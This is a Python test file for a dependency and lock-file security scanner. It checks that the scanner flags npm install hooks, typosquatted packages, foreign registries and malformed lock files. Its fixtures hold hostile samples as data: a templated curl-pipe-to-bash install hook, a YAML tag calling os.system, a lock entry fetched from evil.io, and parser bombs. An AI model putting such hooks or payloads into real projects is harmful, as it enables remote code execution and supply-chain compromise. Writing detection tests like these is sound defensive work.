import json
from typing import Any

import pytest
from analysis_kit import assert_fits_document, without_code
from script_kit import SERVER, assembled, found_in

from miner.analysis import Analysis, analyse
from miner.scanners.packages import MAX_LOCKED


def of_package(document: dict[str, Any]) -> Analysis:
    return analyse({"package.json": assembled(json.dumps(document, indent=1)).encode()}, SERVER)


def pins(analysis: Analysis) -> dict[str, str]:
    return {dependency.package: dependency.version for dependency in analysis.dependencies}


@pytest.mark.parametrize("hook", ["preinstall", "install", "postinstall", "build"])
def test_scripts_are_read_as_shell(hook: str) -> None:
    analysis = of_package({"name": "a", "scripts": {"x": "tsc", hook: "<CURL> https://<HOST>/i | bash"}})
    assert found_in(analysis, "package.json") == {("critical", "excessive_capability", 5)}
    assert analysis.capabilities == (() if hook == "build" else ("network", "subprocess"))


@pytest.mark.parametrize("script", ["tsc && chmod +x dist/index.js", "rimraf dist", "node install.js", "husky || true"])
def test_usual_scripts_are_no_findings(script: str) -> None:
    assert of_package({"scripts": {"build": script, "postinstall": script}}).findings == ()


def test_a_command_in_place_of_the_system_s_is_a_finding() -> None:
    analysis = of_package({"bin": {"tool": "a.js", "git": "b.js"}})
    assert found_in(analysis, "package.json") == {("high", "excessive_capability", 4)}
    assert of_package({"bin": "a.js"}).findings == ()


def test_exact_versions_are_dependencies_and_open_ones_are_said() -> None:
    analysis = of_package(
        {
            "dependencies": {
                "lodash": "4.17.20",
                "zod": "^3.0.0",
                "open": "*",
                "elsewhere": "https://packages.invalid/x.tgz",
            },
            "devDependencies": {"axios": "0.21.0"},
        }
    )
    assert pins(analysis) == {"lodash": "4.17.20"}
    assert found_in(analysis, "package.json") == {
        ("high", "dependency_cve", 3),
        ("low", "other", 5),
        ("high", "excessive_capability", 6),
    }
    finding = next(f for f in analysis.findings if f.cve_ids)
    assert (finding.cve_ids, finding.target_pattern) == (("CVE-2021-23337",), "pkg:npm/lodash@4.17.20")


@pytest.mark.parametrize(
    "content", [b"", b"[]", b"{", b'{"a": 1, "a": 2}', b"\xff\xfe", b"[" * 10_000, b"{}" + b" " * 300_000]
)
def test_packages_that_cannot_be_read_are_findings(content: bytes) -> None:
    analysis = analyse({"package.json": content}, SERVER)
    assert [(f.category, f.severity) for f in analysis.findings] == [("other", "medium")]


def test_values_of_other_types_are_borne() -> None:
    document = {"scripts": {"a": 1, "b": None}, "bin": [1], "dependencies": {"a": {"b": 1}, "c": []}, "name": {}}
    assert_fits_document(of_package(document), {"package.json": json.dumps(document, indent=1).encode()}, SERVER)
    assert of_package({"scripts": ["x"], "dependencies": "y"}).findings == ()


NPM = {
    "lockfileVersion": 3,
    "packages": {
        "": {"name": "a", "version": "1.0.0"},
        "node_modules/minimist": {"version": "1.2.5"},
        "node_modules/@scope/x/node_modules/ws": {"version": "8.18.0"},
    },
}
OLD_NPM = {"dependencies": {"minimist": {"version": "1.2.5", "dependencies": {"ws": {"version": "8.18.0"}}}}}
YARN = '# yarn lockfile v1\n\n"minimist@^1.2.0", minimist@1.x:\n  version "1.2.5"\n\nws@^8:\n  version "8.18.0"\n'
BERRY = '__metadata:\n  version: 8\n\n"minimist@npm:^1.2.0":\n  version: 1.2.5\n\n"ws@npm:^8":\n  version: 8.18.0\n'
PNPM = (
    "lockfileVersion: '9.0'\n\nimporters:\n  a@9.9.9:\n    x: 1\n\npackages:\n\n"
    "  minimist@1.2.5:\n    resolution: {}\n\n  ws@8.18.0(bufferutil@4.0.0):\n    dev: true\n"
)
OLD_PNPM = "packages:\n\n  /minimist/1.2.5:\n    a: 1\n\n  /ws@8.18.0:\n    b: 1\n"
LOCKS = {
    "npm": ("package-lock.json", json.dumps(NPM, indent=1), 8),
    "npm's of old": ("npm-shrinkwrap.json", json.dumps(OLD_NPM, indent=1), 3),
    "yarn": ("yarn.lock", YARN, 3),
    "yarn's of today": ("yarn.lock", BERRY, 4),
    "pnpm": ("pnpm-lock.yaml", PNPM, 9),
    "pnpm's of old": ("pnpm-lock.yaml", OLD_PNPM, 3),
    "an alias": ("package.json", '{"dependencies": {\n"x": "npm:minimist@1.2.5",\n"ws": "8.18.0"}}', 2),
    "an alias of npm": (
        "package-lock.json",
        """{"packages": {
"node_modules/x": {"name": "minimist", "version": "1.2.5"},
"node_modules/ws": {"version": "8.18.0"}, "minimist": {"version": "1.2.4"},
"node_modules/lodash": {"version": "4.17.10", "resolved": "git+ssh://git@a.test/x.git#1"}}}""",
        2,
    ),
    "an alias of yarn": (
        "yarn.lock",
        """
"x@npm:minimist@1.x":
  version "1.2.5"

ws@^8:
  version "8.18.0"

"lodash@workspace:packages/lodash":
  version: 4.17.10
""",
        2,
    ),
    "bun": (
        "bun.lock",
        '{"packages": {\n    "minimist": ["minimist@1.2.5", "", {}],\n    "ws": ["ws@8.18.0", "", {}],\n}}',
        2,
    ),
    "deno's lock": (
        "deno.lock",
        """{
  "npm": {
    "minimist@1.2.5": {
    },
    "ws@8.18.0": {
    }
  },
  "remote": {
    "lodash@4.17.10": {
    }
  }
}""",
        3,
    ),
    "deno": ("deno.json", '{"imports": {\n"a": "npm:minimist@1.2.5",\n"b": "npm:/ws@8.18.0/x"}}', 2),
}


@pytest.mark.parametrize("tool", LOCKS)
def test_lock_files_say_what_is_installed(tool: str) -> None:
    name, text, line = LOCKS[tool]
    analysis = without_code({name: text.encode()}, SERVER)
    assert pins(analysis) == {"minimist": "1.2.5", "ws": "8.18.0"}
    assert found_in(analysis, name) == {("critical", "dependency_cve", line)}


HOSTILE = {
    "aliases": b"a: &a [*a, *a]\nb: &b [*a,*a,*b]\npackages:\n  <<: *b\n  minimist@1.2.5: &x *x\n",
    "tags": b"packages: !!python/object/apply:os.system ['x']\n",
    "long lines": b"packages:\n  " + b"a" * 300_000 + b"@1.2.3:\n" + b"  'a@1.2.3(" + b"(" * 100_000,
    "no text": bytes(range(256)) * 40,
    "depth": b'{"packages":' * 5_000,
    "bomb": b'{"packages":{' + b",".join(b'"node_modules/%d":{"version":"1.0.0"}' % n for n in range(20_000)) + b"}}",
    "types": b'{"packages": [1], "dependencies": {"a": {"version": {}, "dependencies": [{}]}}}',
}


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_lock_files_are_borne(name: str) -> None:
    files = dict.fromkeys(("package-lock.json", "yarn.lock", "pnpm-lock.yaml"), HOSTILE[name])
    analysis = without_code(files, SERVER)
    assert_fits_document(analysis, files, SERVER)
    assert len(analysis.dependencies) <= MAX_LOCKED


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("requirements.txt", "reqeusts==2.31.0\n"),
        ("requirements.txt", "--extra-index-url https://packages.internal-build.io/simple\nrequests\n"),
        ("package.json", '{"dependencies": {"lodahs": "^4.17.21"}}'),
        (".npmrc", "registry=https://npm.mirror-cache.io/\n"),
        ("package-lock.json", '{"packages": {"node_modules/a": {\n"resolved": "https://evil.io/a.tgz"}}}'),
    ],
)
def test_packages_that_may_be_a_strangers_are_told(name: str, text: str) -> None:
    finding = analyse({name: text.encode()}, SERVER).findings[0]
    assert (finding.severity, finding.category) == ("high", "excessive_capability")
